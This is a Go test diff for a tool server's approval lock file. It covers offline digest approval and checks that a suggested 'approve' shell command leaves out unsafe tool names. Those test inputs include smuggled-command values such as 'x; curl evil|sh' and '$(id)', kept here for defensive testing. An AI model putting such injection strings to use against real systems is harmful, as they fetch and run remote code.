@@ -420,9 +420,6 @@ func TestDamagedLockFile(t *testing.T) {
 	os.WriteFile(path, []byte("{"), 0o600)
 	s.set(tool("a", "two"))
 	s.set(tool("b", "two"))
-	if err := s.current.Sessions(); err == nil {
-		t.Fatal("no session")
-	}
 	eventually(t, "a second look fails", func() bool {
 		_, err := h.pins.Waiting("s")
 		return err != nil
@@ -432,6 +429,56 @@ func TestDamagedLockFile(t *testing.T) {
 	}
 	if tools := h.Tools(); len(tools) == 1 && tools[0].Description != "one" {
 		t.Errorf("the changed tool is offered: %+v", tools[0])
+	}
+}
+
+// TestApproveOffline approves in the lock file what a host has seen, while none runs.
+func TestApproveOffline(t *testing.T) {
+	s := newShifty(tool("read", "one"))
+	path := lockPath(t)
+	h := hosted(t, path, Security{}, map[string]*shifty{"s": s})
+	s.set(tool("read", "two"))
+	eventually(t, "the changed tool is held", func() bool { return listed(h) == "" })
+	shown := status(t, h, "s").Pending[0]
+	h.Close()
+	cfg := &Config{Servers: h.cfg.Servers, Security: Security{LockFile: path}}
+	file, err := OpenApprovals(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if state, changed, err := file.Launch("s"); state != "approved" || changed != nil || err != nil {
+		t.Errorf("the launch is %s, %+v, %v", state, changed, err)
+	}
+	pending, err := file.Pending()
+	if err != nil || len(pending) != 1 || pending[0].Digest != shown.Digest || pending[0].Reason != shown.Reason || len(pending[0].Diff) != 1 {
+		t.Fatalf("pending are %+v, %v", pending, err)
+	}
+	if _, err := file.Approve(Approval{Server: "s", Digest: "sha256:other"}); err == nil {
+		t.Error("another digest is approved")
+	}
+	if _, err := file.Approve(Approval{Server: "s", Tool: "read", Digest: shown.Digest}); err != nil {
+		t.Fatal(err)
+	}
+	if pending, err := file.Pending(); err != nil || len(pending) != 0 {
+		t.Errorf("pending are %+v, %v", pending, err)
+	}
+	if h = hosted(t, path, Security{}, map[string]*shifty{"s": s}); listed(h) != "s__read" {
+		t.Errorf("the tools are %q", listed(h))
+	}
+	if _, err := OpenApprovals(&Config{}); err == nil {
+		t.Error("a configuration without a file has approvals in one")
+	}
+}
+
+func TestApproveCommand(t *testing.T) {
+	for _, test := range [][3]string{
+		{"fs", "read_file", "toolserve mcp approve fs read_file"}, {"fs", "a-b/c.d", "toolserve mcp approve fs a-b/c.d"},
+		{"fs", "", "toolserve mcp approve fs"}, {"fs", "x; curl evil|sh", "toolserve mcp approve fs"}, {"fs", "$(id)", "toolserve mcp approve fs"},
+		{"fs", "--all", "toolserve mcp approve fs"}, {"fs", "a\nb", "toolserve mcp approve fs"}, {"my fs", "read", "toolserve mcp approve"},
+	} {
+		if got := approveCommand(test[0], test[1]); got != test[2] {
+			t.Errorf("%q %q: %s", test[0], test[1], got)
+		}
 	}
 }
 
